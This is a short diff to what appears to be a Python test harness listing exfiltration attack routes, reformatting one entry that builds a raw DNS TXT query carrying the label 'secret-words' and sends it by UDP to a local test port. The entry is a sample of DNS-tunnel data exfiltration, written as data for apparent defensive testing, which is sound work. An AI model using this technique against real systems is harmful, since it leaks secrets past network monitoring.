@@ -52,7 +52,8 @@ ATTACKS = (
     _route(
         "dns",
         "a name server's question that carries text out",
-        'query = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + b"\\x0csecret-words\\x00\\0\\x10\\0\\x01"\n'
+        'query = struct.pack(">6H", 1, 256, 1, 0, 0, 0)\n'
+        'query += b"\\x0csecret-words\\x00\\0\\x10\\0\\x01"\n'
         's = socket.socket(type=socket.SOCK_DGRAM); s.sendto(query, ("127.0.0.1", T["udp"]))',
     ),
     _route(
